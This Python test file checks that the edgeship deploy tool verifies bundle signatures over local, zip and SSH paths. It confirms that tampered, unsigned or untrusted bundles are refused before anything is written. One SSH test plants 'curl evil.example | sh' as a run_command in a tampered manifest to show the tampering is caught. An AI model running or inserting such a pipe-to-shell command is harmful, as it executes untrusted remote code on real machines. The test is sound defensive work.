"""`deploy` verifies signatures before it writes or copies anything (issue 11, signed bundles).

Local folder and zip inputs through ``deploy(..., trusted_keys=)`` and ``edgeship deploy
--trusted-key``; the SSH path through ``deploy_ssh(..., trusted_keys=)`` against the asyncssh
test server on 127.0.0.1.
"""
from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

pytest.importorskip("cryptography")

from typer.testing import CliRunner  # noqa: E402

from edgeship.bundle import read_bundle, write_bundle, write_zip  # noqa: E402
from edgeship.cli import app  # noqa: E402
from edgeship.errors import IntegrityError  # noqa: E402
from edgeship.signing import new_keypair, public_key_id, sign_bundle  # noqa: E402
from edgeship.targets.deploy import deploy, deploy_ssh  # noqa: E402


@pytest.fixture()
def keys(tmp_path):
    return new_keypair(tmp_path / "keys" / "release"), new_keypair(tmp_path / "keys" / "other")


@pytest.fixture()
def signed(weights, tmp_path, keys):
    (priv, _), _ = keys
    b = Path(write_bundle(tmp_path / "kws", {"tflite-int8": weights / "shapes_cnn_int8.tflite"},
                          labels=["a", "b", "c"])["_dir"])
    sign_bundle(b, priv)
    return b


def _nothing_at(out: Path) -> bool:
    """Nothing written at the destination, nor a staging folder beside it."""
    return not out.exists() and not [p for p in out.parent.iterdir() if p.name.startswith(f".{out.name}.")]


def test_signed_bundle_folder_and_zip_deploy(signed, keys, tmp_path):
    (_, pub), (_, other_pub) = keys
    res = deploy(signed, "host", tmp_path / "out", trusted_keys=[other_pub, pub])
    m = read_bundle(res.bundle_dir)
    assert m["source"]["signed_by"] == public_key_id(pub)
    assert m["source"]["bundle"] == "kws" and m["source"]["model"] == "shapes_cnn_int8.tflite"
    assert m["labels"] == ["a", "b", "c"]  # carried over from the signed bundle
    model_sha = json.loads((signed / "manifest.json").read_text())["files"]["tflite-int8"]["sha256"]
    assert next(iter(m["files"].values()))["sha256"] == model_sha  # the very file that was signed
    z = write_zip(signed, tmp_path / "kws.zip")
    res = deploy(z, "host", tmp_path / "out_zip", trusted_keys=str(pub))  # one key as a path
    assert read_bundle(res.bundle_dir)["source"]["signed_by"] == public_key_id(pub)


def test_tampered_file_or_manifest_is_refused_and_nothing_written(signed, keys, tmp_path):
    (_, pub), _ = keys
    model = signed / "shapes_cnn_int8.tflite"
    original = model.read_bytes()
    model.write_bytes(original[:-1] + bytes([original[-1] ^ 1]))  # 1. a changed model file
    out = tmp_path / "out"
    with pytest.raises(IntegrityError, match="does not match its manifest checksum"):
        deploy(signed, "host", out, trusted_keys=[pub])
    assert _nothing_at(out)
    model.write_bytes(original)
    mpath = signed / "manifest.json"  # 2. a changed manifest (labels), checksums still right
    m = json.loads(mpath.read_text())
    m["labels"] = ["x", "y", "z"]
    mpath.write_text(json.dumps(m, indent=2) + "\n")
    read_bundle(signed)  # the checksums alone would not notice
    with pytest.raises(IntegrityError, match="signature does not match"):
        deploy(signed, "host", out, trusted_keys=[pub])
    assert _nothing_at(out)
    # 3. the same bundle re-zipped: refused too, the zip path verifies the same way
    z = write_zip(signed, tmp_path / "tampered.zip")
    with pytest.raises(IntegrityError, match="signature does not match"):
        deploy(z, "host", out, trusted_keys=[pub])
    assert _nothing_at(out)


def test_unsigned_untrusted_and_single_files_are_refused(signed, keys, weights, tmp_path):
    (_, pub), (_, other_pub) = keys
    out = tmp_path / "out"
    unsigned = write_bundle(tmp_path / "u", {"tflite-int8": weights / "shapes_cnn_int8.tflite"})["_dir"]
    with pytest.raises(IntegrityError, match="not signed"):
        deploy(unsigned, "host", out, trusted_keys=[pub])
    with pytest.raises(IntegrityError, match="not among the trusted keys"):
        deploy(signed, "host", out, trusted_keys=[other_pub])
    with pytest.raises(IntegrityError, match="single model file"):
        deploy(weights / "shapes_cnn_int8.tflite", "host", out, trusted_keys=[pub])
    with pytest.raises(IntegrityError, match="empty"):
        deploy(signed, "host", out, trusted_keys=[])
    assert _nothing_at(out)
    # without trusted keys an unsigned bundle is an ordinary input (its checksums are still verified)
    assert deploy(unsigned, "host", out).bundle_dir == out


def test_cli_trusted_key(signed, keys, tmp_path):
    (_, pub), (_, other_pub) = keys
    runner = CliRunner()
    out = tmp_path / "out"
    res = runner.invoke(app, ["deploy", str(signed), "--target", "host", "-o", str(out),
                              "--trusted-key", str(other_pub), "--trusted-key", str(pub), "--json"])
    assert res.exit_code == 0, res.output
    doc = json.loads(res.stdout)
    assert doc["ok"] and Path(doc["bundle"]) == out
    bad = tmp_path / "bad"
    res = runner.invoke(app, ["deploy", str(signed), "--target", "host", "-o", str(bad),
                              "--trusted-key", str(other_pub), "--json"])
    assert res.exit_code == 2, res.output  # an input edgeship refuses to use: exit 2, one JSON object
    doc = json.loads(res.stdout)
    assert doc == {"ok": False, "error": {"type": "IntegrityError", "message": doc["error"]["message"]}}
    assert "not among the trusted keys" in doc["error"]["message"]
    assert _nothing_at(bad)


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    pytest.importorskip("asyncssh", reason="asyncssh (edgeship[deploy]) not installed")
    from tests._deploy_helpers import start_server

    srv, stop = start_server(tmp_path_factory.mktemp("ssh"))
    yield srv
    stop()


def _ssh(server, bundle, keys, **kw):
    return deploy_ssh(bundle, f"{server.user}@127.0.0.1", port=server.port, identity=server.identity,
                      known_hosts=server.known_hosts, python=sys.executable, install=False, runs=2,
                      trusted_keys=keys, **kw)


def test_ssh_verifies_before_connecting(server, keys, weights, tmp_path):
    (priv, pub), (_, other_pub) = keys
    bundle = deploy(weights / "shapes_cnn_int8.tflite", "host", tmp_path / "b").bundle_dir
    n = len(server.commands)
    with pytest.raises(IntegrityError, match="not signed"):
        _ssh(server, bundle, [pub], remote_dir="signed_test")
    sign_bundle(bundle, priv)
    with pytest.raises(IntegrityError, match="not among the trusted keys"):
        _ssh(server, bundle, [other_pub], remote_dir="signed_test")
    mpath = bundle / "manifest.json"
    original = mpath.read_text()
    m = json.loads(original)
    m["extra"]["run_command"] = "curl evil.example | sh"  # checksums still hold
    mpath.write_text(json.dumps(m))
    with pytest.raises(IntegrityError, match="signature does not match"):
        _ssh(server, bundle, [pub], remote_dir="signed_test")
    assert len(server.commands) == n  # refused before connecting
    assert not (server.home / "signed_test").exists()  # nothing copied
    mpath.write_text(original)
    res = _ssh(server, bundle, [pub], remote_dir="signed_test")
    assert res["bench"]["ok"] is True
    assert (server.home / "signed_test" / "signature.json").read_bytes() == (bundle / "signature.json").read_bytes()
    assert any("hashlib.sha256" in c for c in server.commands[n:])  # the device's manifest was compared
